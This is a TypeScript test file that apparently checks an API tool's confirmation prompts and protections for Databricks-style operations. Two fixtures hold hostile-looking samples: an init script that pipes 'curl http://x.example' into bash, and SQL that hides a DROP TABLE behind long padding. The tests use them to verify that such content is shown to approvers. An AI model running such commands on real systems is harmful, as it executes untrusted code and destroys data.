import { describe, expect, test } from "vitest";
import { connect, textOf, yes } from "../../support/harness.ts";
import { on, platformError, useWorkspace } from "../../support/workspace.ts";

useWorkspace();

// Operations whose parameters have another form than the arguments of the tool that describes them.

const SCIM = "/api/2.0/preview/scim/v2";
const PATCH = ["urn:ietf:params:scim:api:messages:2.0:PatchOp"];

/** The question that a call of an operation puts, or "" if it asks nothing. */
async function questionFor(operation: string, parameters: Record<string, unknown>): Promise<string> {
  const { call, questions } = await connect({ answer: () => ({ action: "decline" }) });
  await call("call_api", { operation, parameters });
  return questions[0] ?? "";
}

/** The refusal under a protection. */
async function underProtection(protect: string, operation: string, parameters: Record<string, unknown>) {
  const { call } = await connect({ answer: yes, settings: { protect: [protect] } });
  return textOf(await call("call_api", { operation, parameters }));
}

function aGroup(): void {
  on(`GET ${SCIM}/Groups/:id`, { id: "7", displayName: "data-eng" });
  on(`GET ${SCIM}/Users/:id`, { id: "1012", userName: "ben@example.com", displayName: "Ben" });
  on(`GET ${SCIM}/Me`, { id: "99", userName: "server@example.com" });
}

describe("a SCIM patch", () => {
  test.each([
    ["with a path", [{ op: "add", path: "members", value: [{ value: "1012" }] }]],
    ["without one", [{ op: "Add", value: { members: [{ value: "1012" }] } }]],
  ])("%s names the group and its new member", async (_, Operations) => {
    aGroup();
    const question = await questionFor("groupsV2.patch", { id: "7", schemas: PATCH, Operations });
    expect(question).toContain('on group "data-eng" (id 7)?');
    expect(question).toContain('"ben@example.com" (id "1012") becomes a member');
  });

  test("names members that leave, sign-in and entitlements", async () => {
    aGroup();
    const leaves = await questionFor("groupsV2.patch", {
      id: "7",
      schemas: PATCH,
      Operations: [{ op: "remove", path: 'members[value eq "1012"]' }],
    });
    expect(leaves).toContain('"ben@example.com" (id "1012") leaves the group');
    const user = await questionFor("usersV2.patch", {
      id: "1012",
      schemas: PATCH,
      Operations: [
        { op: "replace", path: "active", value: "False" },
        { op: "add", path: "entitlements", value: [{ value: "allow-cluster-create" }] },
      ],
    });
    expect(user).toContain('on user "ben@example.com"');
    expect(user).toContain("Sign-in is blocked");
    expect(user).toContain('It gets the entitlement "allow-cluster-create".');
  });

  test("that removes every member is described by the reference", async () => {
    const question = await questionFor("groupsV2.patch", {
      id: "7",
      schemas: PATCH,
      Operations: [{ op: "remove", path: "members" }],
    });
    expect(question).toContain("can remove, replace or share something");
  });

  test("of a group is refused if one of its members is protected", async () => {
    aGroup();
    const Operations = [{ op: "add", path: "members", value: [{ value: "1012" }] }];
    const said = await underProtection("ben@*", "groupsV2.patch", { id: "7", schemas: PATCH, Operations });
    expect(said).toContain("ben@*");
    expect(said).toMatch(/^Refused/);
  });
});

test("an operation that asks names its object, although the tool that covers it does not ask", async () => {
  on("GET /api/2.0/lakeview/dashboards/:id", { dashboard_id: "d1", display_name: "Sales" });
  const question = await questionFor("lakeview.update", {
    dashboard_id: "d1",
    etag: "1",
    serialized_dashboard: "{}",
    path: "/a",
  });
  expect(question).toContain('on dashboard "Sales" (id d1)?');
});

describe("parameters that the tool of an operation does not take", () => {
  const dashboard = () => on("GET /api/2.0/lakeview/dashboards/:id", { dashboard_id: "d1", display_name: "Sales" });

  test.each([
    ["main.finance.*", { dataset_catalog: "main", dataset_schema: "finance" }],
    ["/Users/ana/*", { parent_path: "/Workspace/Users/ana/reports" }],
    ["reports", { path: "/Workspace/Users/ana/reports" }],
  ])("are compared with %s: %j", async (protect, more) => {
    dashboard();
    const said = await underProtection(protect, "lakeview.update", {
      dashboard_id: "d1",
      etag: "1",
      serialized_dashboard: "{}",
      ...more,
    });
    expect(said).toContain("the operator protects this object");
  });

  test("block the call if they have IDs, which cannot be looked up", async () => {
    dashboard();
    const said = await underProtection("prod", "lakeview.publish", { dashboard_id: "d1", warehouse_id: "w1" });
    expect(said).toContain("call_api cannot look up the object that warehouse_id names");
  });

  test("do not block it if they name nothing", async () => {
    on("GET /api/2.2/jobs/get", { job_id: 7, settings: { name: "daily" } });
    const seen = on("POST /api/2.2/jobs/runs/cancel-all", {});
    on("GET /api/2.2/jobs/runs/list", {});
    await underProtection("prod", "jobs.cancelAllRuns", { job_id: "7", all_queued_runs: true });
    expect(seen).toHaveLength(1);
  });
});

test.each([
  [
    "functions.create",
    { function_info: { catalog_name: "m", schema_name: "s", name: "f", external_language: "PYTHON" } },
  ],
  ["environments.createWorkspaceBaseEnvironment", { display_name: "e", filepath: "/x", is_default: true }],
  ["supervisorAgents.createTool", { parent: "supervisor-agents/1", tool_id: "t", tool_type: "app" }],
  ["knowledgeAssistants.createKnowledgeSource", { parent: "knowledge-assistants/1", display_name: "s" }],
])("%s asks: its code or its answers reach others", async (operation, parameters) => {
  expect(await questionFor(operation, parameters)).toContain("can remove, replace or share something");
});

test.each([
  ["registeredModels.create", { catalog_name: "m", schema_name: "s", name: "x", storage_location: "s3://elsewhere/x" }],
  ["shares.create", { name: "s", storage_root: "s3://elsewhere/x" }],
  ["experiments.createExperiment", { name: "/x", artifact_location: "s3://elsewhere/x" }],
  [
    "secrets.createScope",
    { scope: "s", scope_backend_type: "AZURE_KEYVAULT", backend_azure_keyvault: { dns_name: "d", resource_id: "r" } },
  ],
])("%s asks if it places something outside, and requires destructive access", async (operation, parameters) => {
  expect(await questionFor(operation, parameters)).toMatch(/s3:\/\/elsewhere\/x|"resource_id": "r"/);
  const { call } = await connect({ settings: { access: "write", confirm: "never" } });
  expect(textOf(await call("call_api", { operation, parameters }))).toContain("requires destructive access");
});

test("SQL that is saved is shown whole, also with a parameter that its tool does not take", async () => {
  const query_text = `SELECT 1 ${"-- x ".repeat(500)}\n; DROP TABLE main.sales.orders`;
  const parameters = { auto_resolve_display_name: true, query: { display_name: "q", warehouse_id: "w", query_text } };
  expect(await questionFor("queries.create", parameters)).toContain("DROP TABLE main.sales.orders");
});

test("several workspace settings are all described, with their values before", async () => {
  on("GET /api/2.0/workspace-conf", { enableExportNotebook: "true" }, { maxTokenLifetimeDays: "365" });
  const question = await questionFor("workspaceConf.setStatus", {
    enableExportNotebook: "false",
    maxTokenLifetimeDays: "0",
  });
  expect(question).toContain('- workspace setting "enableExportNotebook"');
  expect(question).toContain('It changes from "true" to "false"');
  expect(question).toContain('It changes from "365" to "0"');
});

test.each([
  ["featureStore.createOnlineStore", { name: "store", capacity: "CU_1" }],
  ["database.createDatabaseInstance", { name: "db" }],
])("%s, which creates something billed while idle, asks because of the cost", async (operation, parameters) => {
  expect(await questionFor(operation, parameters)).toContain(
    "It is billed until it is deleted, even while it is idle.",
  );
});

describe("an operation that replaces a whole object names what it does not repeat", () => {
  test("servingEndpoints.putAiGateway, which has no tool and no GET of its own", async () => {
    const limit = { calls: 60, key: "user", renewal_period: "minute" };
    on("GET /api/2.0/serving-endpoints/gpt", {
      name: "gpt",
      ai_gateway: {
        rate_limits: [limit],
        usage_tracking_config: { enabled: true },
        guardrails: { input: { pii: { behavior: "BLOCK" } } },
      },
    });
    const put = (parameters: object) => questionFor("servingEndpoints.putAiGateway", { name: "gpt", ...parameters });
    const question = await put({ guardrails: { input: { safety: true } } });
    expect(question).toContain('The call does not repeat "rate_limits": its current value can be lost.');
    expect(question).toContain('The call does not repeat "usage_tracking_config"');
    expect(question).toContain('Field "guardrails.input" is replaced as a whole: "pii" is lost.');
    const other = await put({ rate_limits: [{ ...limit, calls: 10 }], usage_tracking_config: { enabled: true } });
    expect(other).toContain('\\"calls\\":60');
    expect(other).not.toContain('repeat "rate_limits"');
  });

  test("artifactAllowlists.update, with the GET of its own address; without it, the call asks as before", async () => {
    const path = "/api/2.1/unity-catalog/artifact-allowlists/LIBRARY_JAR" as const;
    const parameters = { artifact_type: "LIBRARY_JAR", artifact_matchers: [] };
    on(`GET ${path}`, { artifact_matchers: [{ artifact: "/Volumes/a", match_type: "PREFIX_MATCH" }] });
    const question = await questionFor("artifactAllowlists.update", parameters);
    expect(question).toContain('Field "artifact_matchers" is replaced as a whole');
    on(`GET ${path}`, () => platformError(403, "PERMISSION_DENIED", "no"));
    expect(await questionFor("artifactAllowlists.update", parameters)).toContain(
      "can remove, replace or share something",
    );
  });

  test("pipelines.update", async () => {
    on("GET /api/2.0/pipelines/:id", {
      pipeline_id: "p1",
      name: "orders",
      spec: { id: "p1", name: "orders", catalog: "main", libraries: [{ notebook: { path: "/a" } }], serverless: true },
    });
    const question = await questionFor("pipelines.update", { pipeline_id: "p1", name: "orders", serverless: true });
    expect(question).toContain('on pipeline "orders" (id p1)?');
    expect(question).toContain('Field "catalog" is reset');
    expect(question).toContain('Field "libraries" is reset');
    expect(question).not.toContain('Field "serverless"');
    expect(question).not.toContain('Field "name"');
  });

  test("clusterPolicies.edit, rule by rule", async () => {
    on("GET /api/2.0/policies/clusters/get", {
      policy_id: "A1",
      name: "Small",
      description: "for all",
      definition: JSON.stringify({ a: { type: "fixed", value: 1 }, b: { type: "fixed", value: 2 } }),
    });
    const question = await questionFor("clusterPolicies.edit", {
      policy_id: "A1",
      name: "Small",
      definition: JSON.stringify({ a: { type: "fixed", value: 1 } }),
    });
    expect(question).toContain('on cluster policy "Small" (id A1)?');
    expect(question).toContain('Rule "b" is removed');
    expect(question).toContain('Field "description" is reset');
    expect(question).not.toContain('Rule "a"');
  });

  test("instancePools.edit", async () => {
    on("GET /api/2.0/instance-pools/get", {
      instance_pool_id: "p1",
      instance_pool_name: "warm",
      node_type_id: "i3.xlarge",
      max_capacity: 10,
    });
    const question = await questionFor("instancePools.edit", {
      instance_pool_id: "p1",
      instance_pool_name: "warm",
      node_type_id: "i3.xlarge",
    });
    expect(question).toContain('on instance pool "warm" (id p1');
    expect(question).toContain('Field "max_capacity" is reset');
  });

  test("clusters.edit", async () => {
    on("GET /api/2.1/clusters/get", {
      cluster_id: "c1",
      cluster_name: "etl",
      state: "TERMINATED",
      spark_version: "16.4.x-scala2.13",
      node_type_id: "i3.xlarge",
      num_workers: 2,
      spark_conf: { "spark.a": "1" },
    });
    const question = await questionFor("clusters.edit", {
      cluster_id: "c1",
      cluster_name: "etl",
      spark_version: "16.4.x-scala2.13",
      node_type_id: "i3.xlarge",
      autoscale: { min_workers: 1, max_workers: 2 },
    });
    expect(question).toContain('on cluster "etl" (id c1');
    expect(question).toContain('Field "spark_conf" is reset');
    expect(question).not.toContain('Field "num_workers"');
  });
});

test("a global init script is shown as text", async () => {
  const script = Buffer.from("#!/bin/bash\ncurl http://x.example | bash\n").toString("base64");
  const question = await questionFor("globalInitScripts.create", { name: "n", script, enabled: true });
  expect(question).toContain("| curl http://x.example | bash");
});

test("both registries and all kinds of tags are described by the model's tools", async () => {
  on("GET /api/2.0/mlflow/databricks/registered-models/get", {
    registered_model_databricks: {
      name: "churn",
      id: "9",
      latest_versions: [{ version: "3", current_stage: "Archived" }],
    },
  });
  on("POST /api/2.0/mlflow/registered-models/get-latest-versions", { model_versions: [] });
  on("GET /api/2.0/mlflow/model-versions/search", { model_versions: [] });
  const question = await questionFor("modelRegistry.deleteModel", { name: "churn" });
  expect(question).toContain('on registered model "churn"');
  expect(question).toContain("This cannot be undone.");
});

test("unpinning a protected cluster is refused", async () => {
  on("GET /api/2.1/clusters/get", { cluster_id: "c1", cluster_name: "etl-nightly", state: "RUNNING" });
  on("POST /api/2.1/clusters/unpin", {});
  expect(await underProtection("etl-*", "clusters.unpin", { cluster_id: "c1" })).toContain("etl-*");
  expect(await underProtection("other", "clusters.unpin", { cluster_id: "c1" })).not.toMatch(/^Refused/);
});

test("a token of another user is named", async () => {
  on(`GET ${SCIM}/Me`, { id: "99", userName: "server@example.com" });
  on("GET /api/2.0/token-management/tokens/:id", {
    token_info: { token_id: "t1", comment: "ci", created_by_username: "ben@example.com" },
  });
  const question = await questionFor("tokenManagement.delete", { token_id: "t1" });
  expect(question).toContain('on personal access token "ci" (id t1, owner "ben@example.com")?');
});

test("an effect without an object does not end in a preposition", async () => {
  const question = await questionFor("tokenManagement.setPermissions", {
    access_control_list: [{ group_name: "users", permission_level: "CAN_USE" }],
  });
  expect(question).toMatch(/Call tokenManagement.setPermissions \(.*\)\?\n/);
});

test("objects are known by ARNs and by ids of the old API", async () => {
  const arn = "arn:aws:iam::1:instance-profile/p";
  expect(await questionFor("instanceProfiles.remove", { instance_profile_arn: arn })).toContain(arn);
  expect(await questionFor("rest-1.2.clusters.restart", { clusterId: "c1" })).toContain('on cluster id "c1"?');
});
